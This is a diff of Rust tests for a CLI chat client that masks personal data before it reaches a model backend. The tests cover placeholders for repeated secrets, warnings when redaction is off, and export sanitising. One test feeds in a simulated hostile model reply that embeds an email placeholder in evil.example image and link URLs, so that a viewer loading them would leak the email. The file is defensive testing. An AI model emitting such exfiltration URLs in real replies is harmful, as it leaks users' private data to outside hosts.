@@ -134,6 +134,234 @@ fn in_mask_mode_no_detected_value_reaches_the_backend_not_even_in_the_history() 
 }
 
 #[test]
+fn a_value_repeated_without_its_cue_or_known_from_earlier_never_reaches_the_backend() {
+    const PASSWORD: &str = "Zq8vLp2xR4wT";
+    const ROUTER: &str = "Hx7pQ2mVt9Lk3";
+    let sandbox = Sandbox::new();
+    drop(new_vault(&sandbox.vault()));
+    let server = TestServer::always(|| sse(&[delta("noted"), finish("stop"), done()]));
+    let config = config_for(&sandbox, &server);
+    let body = |n: usize| String::from_utf8_lossy(&server.requests()[n].body).into_owned();
+
+    // Sent as written on purpose: the history holds a value in clear.
+    let first = ask(
+        &sandbox,
+        &config,
+        &["--redact", "off", &format!("the router password: {ROUTER}")],
+    );
+    assert_eq!(code(&first), 0, "{}", stderr(&first));
+    assert!(body(0).contains(ROUTER));
+    let id = reopen(&sandbox.vault()).list_conversations().unwrap().conversations[0]
+        .id
+        .to_string();
+
+    // The cue fires once; the repeat two words later is the same value.
+    let second = ask(
+        &sandbox,
+        &config,
+        &[
+            "--conversation",
+            &id,
+            &format!("password: {PASSWORD} -- please remember {PASSWORD}"),
+        ],
+    );
+    assert_eq!(code(&second), 0, "{}", stderr(&second));
+    let sent = body(1);
+    assert!(!sent.contains(PASSWORD) && !sent.contains(ROUTER), "{sent}");
+    assert!(
+        sent.contains("password: [API_KEY_2] -- please remember [API_KEY_2]"),
+        "{sent}"
+    );
+    assert!(
+        stderr(&second).contains("sent as placeholders: API_KEY (12 chars)\n"),
+        "one item: {}",
+        stderr(&second)
+    );
+
+    // Later, both values again, without any cue: neither leaves.
+    let third = ask(
+        &sandbox,
+        &config,
+        &["--conversation", &id, &format!("is it {PASSWORD} or {ROUTER}?")],
+    );
+    assert_eq!(code(&third), 0, "{}", stderr(&third));
+    let sent = body(2);
+    assert!(!sent.contains(PASSWORD) && !sent.contains(ROUTER), "{sent}");
+    assert!(sent.contains("is it [API_KEY_2] or [API_KEY_1]?"), "{sent}");
+    assert!(
+        stderr(&third).contains("API_KEY (12 chars), API_KEY (13 chars)"),
+        "{}",
+        stderr(&third)
+    );
+
+    // What is stored says what was sent, and how many items were withheld.
+    let vault = reopen(&sandbox.vault());
+    let conversation = vault.list_conversations().unwrap().conversations[0].id;
+    let messages = vault.newest_messages(conversation, 10).unwrap();
+    let second = messages[2].as_ref().unwrap();
+    assert_eq!(second.meta.extra["withheld"], "1");
+    let third = messages[4].as_ref().unwrap();
+    assert_eq!(third.meta.extra["sent"], "is it [API_KEY_2] or [API_KEY_1]?");
+    assert_eq!(third.meta.extra["withheld"], "2");
+}
+
+#[test]
+fn a_hostile_reply_never_gets_a_value_put_back_inside_a_url_shown_or_exported() {
+    let sandbox = Sandbox::new();
+    drop(new_vault(&sandbox.vault()));
+    // The bot tries to carry the value off in an image that a viewer loads,
+    // a link, and a bare URL; in prose the placeholder is fine.
+    let reply = "Noted, [EMAIL_1]. ![s](https://evil.example/p.png?u=[EMAIL_1]) \
+                 [docs](https://evil.example/?e=[EMAIL_1]) https://evil.example/t?u=[EMAIL_1]";
+    let server = TestServer::always(move || sse(&[delta(reply), finish("stop"), done()]));
+    let config = config_for(&sandbox, &server);
+    let out = ask(&sandbox, &config, &[&format!("please write to {EMAIL}")]);
+    assert_eq!(code(&out), 0, "{}", stderr(&out));
+    let shown = stdout(&out);
+    assert_eq!(
+        shown,
+        format!(
+            "Noted, {EMAIL}. ![s](https://evil.example/p.png?u=[EMAIL_1]) \
+             [docs](https://evil.example/?e=[EMAIL_1]) https://evil.example/t?u=[EMAIL_1]\n"
+        )
+    );
+
+    let export = |format: &str| {
+        let file = sandbox.path(&format!("export.{format}"));
+        let out = sandbox
+            .sotto(&[
+                "export",
+                "--plaintext",
+                "--format",
+                format,
+                "-o",
+                file.to_str().unwrap(),
+            ])
+            .arg("--config")
+            .arg(&config)
+            .env("SOTTO_PASSPHRASE_FILE", sandbox.path("p"))
+            .output()
+            .unwrap();
+        assert_eq!(code(&out), 0, "{}", stderr(&out));
+        std::fs::read_to_string(file).unwrap()
+    };
+    let json: serde_json::Value = serde_json::from_str(&export("json")).unwrap();
+    let reply_json = &json["conversations"][0]["messages"][1];
+    assert_eq!(reply_json["text"], reply, "stored as received");
+    let shown_in_json = reply_json["shown"].as_str().unwrap();
+    assert!(
+        shown_in_json.starts_with(&format!("Noted, {EMAIL}. ")),
+        "{shown_in_json}"
+    );
+    assert_eq!(shown_in_json.matches(EMAIL).count(), 1, "{shown_in_json}");
+    assert_eq!(shown_in_json.matches("[EMAIL_1]").count(), 3, "{shown_in_json}");
+
+    let markdown = export("markdown");
+    assert!(markdown.contains(&format!("Noted, {EMAIL}.")), "{markdown}");
+    assert!(
+        !markdown.contains("u=jane") && !markdown.contains("e=jane"),
+        "{markdown}"
+    );
+    assert!(
+        markdown.contains("[image: s] `https://evil.example/p.png?u=[EMAIL_1]`"),
+        "{markdown}"
+    );
+    // No image syntax with a remote address is left for a viewer to load.
+    let image = regex::Regex::new(r"!\[[^\]]*\]\(\s*<?(?:[a-zA-Z][a-zA-Z0-9+.-]*:)?//").unwrap();
+    assert!(!image.is_match(&markdown), "{markdown}");
+    assert!(!markdown.contains("]("), "no inline link or image at all: {markdown}");
+}
+
+#[test]
+fn redaction_off_from_the_environment_the_flag_or_the_vault_is_said_on_every_send() {
+    let sandbox = Sandbox::new();
+    let mut vault = new_vault(&sandbox.vault());
+    let id = vault.create_conversation("t").unwrap().to_string();
+    drop(vault);
+    let warnings = |out: &Output| {
+        assert_eq!(code(out), 0, "{}", stderr(out));
+        stderr(out).lines().filter(|l| l.contains("redaction is 'off'")).count()
+    };
+    let ask = |env: Option<&str>, args: &[&str]| {
+        let mut full = vec!["ask"];
+        full.extend_from_slice(args);
+        full.push("hello");
+        let mut command = sandbox.sotto(&full);
+        command.env("SOTTO_PASSPHRASE_FILE", sandbox.file("p", PASSPHRASE));
+        if let Some(mode) = env {
+            command.env("SOTTO_REDACT", mode);
+        }
+        command.output().unwrap()
+    };
+
+    // The default, mask: nothing to say.
+    assert_eq!(warnings(&ask(None, &[])), 0);
+    // The environment variable alone, as a script would inherit it.
+    let out = ask(Some("off"), &[]);
+    assert_eq!(warnings(&out), 1, "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("SOTTO_REDACT") && stderr(&out).contains("'local'"),
+        "{}",
+        stderr(&out)
+    );
+    // The flag, in incognito too.
+    assert_eq!(warnings(&ask(None, &["--redact", "off"])), 1);
+    let mut incognito = sandbox.sotto(&["--incognito", "ask", "hello"]);
+    incognito.env("SOTTO_REDACT", "off");
+    assert_eq!(warnings(&incognito.output().unwrap()), 1);
+    // The vault's setting, for a conversation continued later.
+    let mut vault = reopen(&sandbox.vault());
+    vault.set_setting("redaction.mode", "off").unwrap();
+    drop(vault);
+    let out = ask(None, &["--conversation", &id]);
+    assert_eq!(warnings(&out), 1, "{}", stderr(&out));
+    assert!(stderr(&out).contains("'redaction.mode'"), "{}", stderr(&out));
+    // Asked for mask explicitly, nothing is said.
+    assert_eq!(warnings(&ask(Some("mask"), &[])), 0);
+
+    // The variable is in the help's list of the environment.
+    let help = stdout(&sandbox.sotto(&["--help"]).output().unwrap());
+    assert!(help.contains("SOTTO_REDACT"), "{help}");
+}
+
+#[test]
+fn personal_data_given_as_an_argument_is_told_once_to_come_on_stdin() {
+    let sandbox = Sandbox::new();
+    drop(new_vault(&sandbox.vault()));
+    let notes = |out: &Output| {
+        assert_eq!(code(out), 0, "{}", stderr(out));
+        stderr(out)
+            .lines()
+            .filter(|l| l.contains("given as an argument") && l.contains("stdin"))
+            .count()
+    };
+    let in_argument = sandbox.run(&["ask", &format!("my card is {CARD}")], Some(PASSPHRASE));
+    assert_eq!(notes(&in_argument), 1, "{}", stderr(&in_argument));
+    assert!(!stderr(&in_argument).contains(CARD), "{}", stderr(&in_argument));
+    // Nothing personal in the argument: nothing to say.
+    assert_eq!(notes(&sandbox.run(&["ask", "how do I wipe?"], Some(PASSPHRASE))), 0);
+    // On stdin, the private way: nothing to say either.
+    let mut command = sandbox.sotto(&["ask"]);
+    command.env("SOTTO_PASSPHRASE_FILE", sandbox.file("p", PASSPHRASE));
+    let mut child = command
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(format!("my card is {CARD}").as_bytes())
+        .unwrap();
+    assert_eq!(notes(&child.wait_with_output().unwrap()), 0);
+    // And the help says which way is private.
+    let help = stdout(&sandbox.sotto(&["ask", "--help"]).output().unwrap());
+    assert!(help.contains("Stdin is the private way"), "{help}");
+}
+
+#[test]
 fn warn_and_block_send_and_store_nothing_and_never_quote_the_value() {
     let sandbox = Sandbox::new();
     drop(new_vault(&sandbox.vault()));
@@ -149,6 +377,11 @@ fn warn_and_block_send_and_store_nothing_and_never_quote_the_value() {
         );
         assert!(!err.contains(CARD), "{err}");
     }
+    // A secret is named by its kind and length only: not even its prefix.
+    let out = ask(&sandbox, &config, &["--redact", "block", &format!("token {KEY}")]);
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+    assert!(stderr(&out).contains("API_KEY (40 chars)"), "{}", stderr(&out));
+    assert!(!stderr(&out).contains(&KEY[..4]), "{}", stderr(&out));
     assert!(server.requests().is_empty());
     assert!(
         reopen(&sandbox.vault())
